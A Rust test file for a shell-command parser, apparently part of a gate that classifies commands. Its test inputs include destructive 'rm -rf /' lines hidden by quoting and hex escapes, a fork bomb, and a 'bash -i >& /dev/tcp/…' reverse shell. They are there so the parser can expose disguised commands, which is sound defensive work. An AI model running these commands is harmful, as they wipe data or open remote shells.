//! The parser's tests: command lines in, the commands they run out.

use super::parse;
use crate::gate::classify::shell::{Command, List, RedirOp};

fn words(src: &str) -> Vec<Vec<String>> {
    let list = parse(src).unwrap_or_else(|e| panic!("{src}: {e}"));
    let mut out = Vec::new();
    collect(&list, &mut out);
    out
}

fn v(expected: &[&[&str]]) -> Vec<Vec<String>> {
    expected.iter().map(|c| c.iter().map(|s| s.to_string()).collect()).collect()
}

fn collect(list: &List, out: &mut Vec<Vec<String>>) {
    for c in list.commands() {
        match c {
            Command::Simple(s) => {
                for (_, w) in &s.assigns {
                    for l in w.substitutions() {
                        collect(l, out);
                    }
                }
                if !s.words.is_empty() {
                    out.push(
                        s.words
                            .iter()
                            .map(|w| {
                                w.literal(&|n| (n == "HOME").then(|| "/home/u".to_string()))
                                    .unwrap_or_else(|| w.source())
                            })
                            .collect(),
                    );
                }
                for w in &s.words {
                    for l in w.substitutions() {
                        collect(l, out);
                    }
                }
            }
            Command::Group(l, _) | Command::Function(_, l) => collect(l, out),
        }
    }
}

#[test]
fn lists_pipelines_and_quotes() {
    assert_eq!(words("ls -la"), v(&[&["ls", "-la"]]));
    assert_eq!(
        words("git add -A && git commit -m 'fix: a b'"),
        v(&[&["git", "add", "-A"], &["git", "commit", "-m", "fix: a b"]])
    );
    assert_eq!(words("a | b |& c; d & e || f"), v(&[&["a"], &["b"], &["c"], &["d"], &["e"], &["f"]]));
    assert_eq!(words(r#"'r''m' -rf "/""#), v(&[&["rm", "-rf", "/"]]));
    assert_eq!(words(r"\rm -rf /"), v(&[&["rm", "-rf", "/"]]));
    assert_eq!(words(r"$'\x72\x6d' -rf /"), v(&[&["rm", "-rf", "/"]]));
    assert_eq!(words("rm -rf ~ $HOME ${HOME}/x"), v(&[&["rm", "-rf", "/home/u", "/home/u", "/home/u/x"]]));
}

#[test]
fn substitutions_and_nesting() {
    assert_eq!(words("echo $(rm -rf /) `id`"), v(&[&["echo", "$(…)", "$(…)"], &["rm", "-rf", "/"], &["id"]]));
    assert_eq!(
        words("diff <(curl x) >(tee y)"),
        v(&[&["diff", "<(…)", "<(…)"], &["curl", "x"], &["tee", "y"]])
    );
    assert_eq!(words("(cd a && make) ; { b; c; }"), v(&[&["cd", "a"], &["make"], &["b"], &["c"]]));
    assert_eq!(words("X=$(whoami) FOO=1 env"), v(&[&["whoami"], &["env"]]));
    assert_eq!(words("echo ${X:-$(id)}"), v(&[&["echo", "$(…)${X}"], &["id"]]));
}

#[test]
fn control_flow_is_flattened() {
    assert_eq!(
        words("if grep -q x f; then rm a; else rm b; fi"),
        v(&[&["grep", "-q", "x", "f"], &["rm", "a"], &["rm", "b"]])
    );
    assert_eq!(words("for f in *.rs; do rm \"$f\"; done"), v(&[&["rm", "${f}"]]));
    assert_eq!(words("while read l; do echo $l; done < in.txt"), v(&[&["read", "l"], &["echo", "${l}"]]));
    assert_eq!(words("case $x in a|b) rm a;; *) ls;; esac"), v(&[&["rm", "a"], &["ls"]]));
    assert_eq!(words(":(){ :|:& };:"), v(&[&[":"], &[":"], &[":"]]));
    assert_eq!(words("f() { echo hi; }; f"), v(&[&["echo", "hi"], &["f"]]));
    assert_eq!(
        words("[[ -f a && $x > 3 ]] && echo y"),
        v(&[&["[[", "-f", "a", "&&", "${x}", ">", "3", "]]"], &["echo", "y"]])
    );
    assert_eq!(words("for x in $(rm -rf /); do :; done"), v(&[&["rm", "-rf", "/"], &[":"]]));
}

#[test]
fn redirects_and_heredocs() {
    let list = parse("cat <<EOF > out.txt\nhello $(id)\nEOF\necho done 2>&1 >>log").unwrap();
    let cmds: Vec<_> = list.commands().collect();
    let Command::Simple(first) = cmds[0] else { panic!() };
    assert_eq!(first.redirects.len(), 2);
    assert_eq!(first.redirects[0].op, RedirOp::HereDoc);
    assert!(first.redirects[0].body.as_ref().unwrap().substitutions().count() == 1);
    assert_eq!(first.redirects[1].op, RedirOp::Out);
    let Command::Simple(second) = cmds[1] else { panic!() };
    assert_eq!(second.words.len(), 2);
    assert_eq!(second.redirects.iter().map(|r| r.op).collect::<Vec<_>>(), [RedirOp::Dup, RedirOp::Append]);
    let list = parse("bash -i >& /dev/tcp/1.2.3.4/9 0>&1").unwrap();
    let Some(Command::Simple(s)) = list.commands().next() else { panic!() };
    assert_eq!(s.redirects[0].op, RedirOp::Out);
    // Quoted delimiter: no expansion inside.
    let list = parse("sh <<'X'\nrm -rf $HOME\nX").unwrap();
    let Some(Command::Simple(s)) = list.commands().next() else { panic!() };
    assert_eq!(s.redirects[0].body.as_ref().unwrap().literal(&|_| None).unwrap(), "rm -rf $HOME\n");
}

#[test]
fn malformed_lines_are_errors() {
    for bad in ["echo 'open", "echo \"open", "echo $(ls", "(ls", "ls )", "cat <", "echo `ls", "{ ls"] {
        assert!(parse(bad).is_err(), "{bad}");
    }
    let deep = "$(".repeat(100) + &")".repeat(100);
    assert_eq!(parse(&deep).unwrap_err().message, "nested too deeply");
}
